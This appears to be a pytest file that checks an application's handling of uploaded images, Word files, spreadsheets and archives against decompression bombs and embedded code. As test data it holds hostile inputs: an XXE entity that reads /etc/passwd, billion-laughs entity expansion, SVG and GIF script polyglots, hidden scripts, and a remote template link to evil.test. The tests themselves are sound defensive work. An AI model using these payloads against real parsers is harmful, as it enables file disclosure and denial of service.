"""Every file from outside is refused, or made anew, within bounded memory and time."""

import io
import time

import pytest
from openpyxl import Workbook
from PIL import Image

from sessions_app.access.refusals import Refusal
from sessions_app.closing.archive.checks import Wrong
from sessions_app.closing.archive.packing import unpack
from sessions_app.fiche.appearance import logos, word_styles
from sessions_app.harvest import pictures
from sessions_app.rotation import roster_file, roster_text
from tests.closing import bombs
from tests.fiche import files
from tests.memory import MIB, peak

# A picture of 8 million pixels takes 32 MB for its pixels, and as much again for a copy.
DECODED = 150 * MIB
ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]>'
ENTITIES = "".join(
    f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9)
)  # the milliard of laughs


def refused(call, *given) -> None:
    """Check that something is refused, soon, in less memory than a page takes."""

    def tried() -> None:
        with pytest.raises((Refusal, Wrong, pictures.NoPicture)):
            call(*given)

    started = time.process_time()
    assert peak(tried) < 40 * MIB
    assert time.process_time() - started < 3


@pytest.fixture(scope="module", autouse=True)
def warm():
    """Load the libraries before memory is compared."""
    logos.remade(files.picture())
    pictures.remade(bombs.jpeg())
    roster_file._workbook(workbook())
    word_styles.styles_of(files.word())


def workbook() -> bytes:
    book, file = Workbook(), io.BytesIO()
    for line in (["Nom", "Secteur"], ["Ana", "santé"], ["Luc", 12]):
        book.active.append(line)
    book.save(file)
    return file.getvalue()


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
LOGOS = {
    "svg": lambda: SVG,
    "svg named": lambda: b"<?xml version='1.0'?><!-- " + b" " * 3000 + b"-->" + SVG,
    "gif and script": lambda: b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)",
    "huge png": lambda: files.bomb(),
    "huge png of many pixels": lambda: files.bomb(20_000),
    "huge animated webp": bombs.webp,
    "many passes": bombs.many_passes,
    "zip": lambda: bombs.zipped(a=b"x"),
}


@pytest.mark.parametrize("made", LOGOS.values(), ids=LOGOS.keys())
def test_a_logo_that_is_a_bomb_or_code_is_refused(made):
    refused(logos.remade, made())


@pytest.mark.parametrize("made", LOGOS.values(), ids=LOGOS.keys())
def test_so_is_a_photo(made):
    refused(pictures.remade, made())


@pytest.mark.parametrize(
    "raw",
    [
        files.picture(size=(3900, 2000), mode="RGBA"),
        files.picture("WEBP", size=(3900, 2000), mode="RGBA"),
        bombs.apng(),
        bombs.jpeg((3900, 2000)),
    ],
    ids=["png", "webp", "many frames", "jpeg"],
)
def test_the_largest_logo_is_made_anew_in_bounded_memory(raw):
    made = []
    assert peak(lambda: made.append(logos.remade(raw))) < DECODED
    with Image.open(io.BytesIO(made[0].content)) as image:
        assert (image.format, getattr(image, "n_frames", 1), image.info) == ("PNG", 1, {})


def test_what_hides_in_a_picture_is_gone_from_what_is_kept():
    hidden = b"<script>alert(1)</script>"
    archive = bombs.zipped(a=hidden) + hidden
    for raw in (
        bombs.jpeg() + archive,
        bombs.jpeg() + archive + b"\xff\xd9",
        bombs.with_comment(bombs.jpeg(), hidden),
    ):
        assert hidden in raw
        for ours in (False, True):
            kept = pictures.remade(raw, ours=ours).content
            assert hidden not in kept
            assert b"PK" not in kept
        assert hidden not in logos.remade(raw).content


def test_a_photo_of_ours_stays_to_the_byte():
    ours = pictures.remade(bombs.jpeg((900, 700), progressive=True)).content
    assert pictures.bare(ours)
    assert pictures.remade(ours, ours=True).content == ours


WORDS = {
    "many members": bombs.many_members,
    "swollen styles": lambda: files.with_styles(lambda xml: xml + b" " * 60 * MIB),
    "entities": lambda: files.with_styles(lambda xml: ENTITY + xml),
    "entities in utf-16": lambda: files.with_styles(
        lambda xml: f"<!DOCTYPE x [{ENTITIES}]>{xml.decode()}".encode("utf-16")
    ),
}


@pytest.mark.parametrize("made", WORDS.values(), ids=WORDS.keys())
def test_a_word_file_that_is_a_bomb_is_refused(made):
    refused(word_styles.styles_of, made())


def test_what_a_word_file_points_to_is_never_asked_for():
    remote = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="http://evil.test/a.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    raw = bombs.changed(files.word(), **{"word/_rels/settings.xml.rels": remote})
    assert "evil.test" not in word_styles.styles_of(raw)


BOOKS = {
    "many members": bombs.many_members,
    "swollen sheet": lambda: sheet(b"<worksheet>" + b" " * 100 * MIB),
    "entities": lambda: sheet(ENTITY + b"<worksheet/>"),
    "not a book": lambda: bombs.zipped(a=b"x"),
}


def sheet(xml: bytes) -> bytes:
    return bombs.changed(workbook(), **{"xl/worksheets/sheet1.xml": xml})


@pytest.mark.parametrize("made", BOOKS.values(), ids=BOOKS.keys())
def test_a_workbook_that_is_a_bomb_is_refused(made):
    refused(roster_file._workbook, made())


def test_the_styles_of_a_workbook_cost_nothing_and_its_cells_are_read():
    styles = b"<styleSheet><cellXfs>" + b"<xf/>" * 500_000 + b"</cellXfs></styleSheet>"
    raw = bombs.changed(workbook(), **{"xl/styles.xml": styles, "xl/media/a.png": b"x"})
    started = time.process_time()
    assert roster_file._workbook(raw) == "Nom\tSecteur\nAna\tsanté\nLuc\t12"
    assert time.process_time() - started < 2


def test_a_list_of_a_million_lines_is_refused_at_once_and_one_of_a_thousand_is_soon_read():
    million = "\n".join(map(str, range(1_000_000)))
    started = time.process_time()
    found = roster_text.read(million)
    assert (found.people, [fault.line for fault in found.faults]) == ([], [1501])
    assert len(roster_text.read("\n".join(f"Personne {n}" for n in range(1500))).people) == 1500
    assert time.process_time() - started < 3


ARCHIVES = {
    "many members": bombs.many_members,
    "many objects": lambda: b'{"a":[' + b"{}," * 3_000_000 + b"{}]}",
    "many values": lambda: b'{"a":[' + b'"ab",' * 6_000_000 + b'"ab"]}',
    "deep": lambda: b'{"a":' + b"[" * 300_000,
    "a number without end": lambda: b'{"a":' + b"9" * 3_000_000 + b"}",
    "swollen": lambda: bombs.zipped(**{"manifest.json": b" " * 60 * MIB}),
}


@pytest.mark.parametrize("made", ARCHIVES.values(), ids=ARCHIVES.keys())
def test_an_archive_that_is_a_bomb_is_refused(made):
    refused(unpack, made())
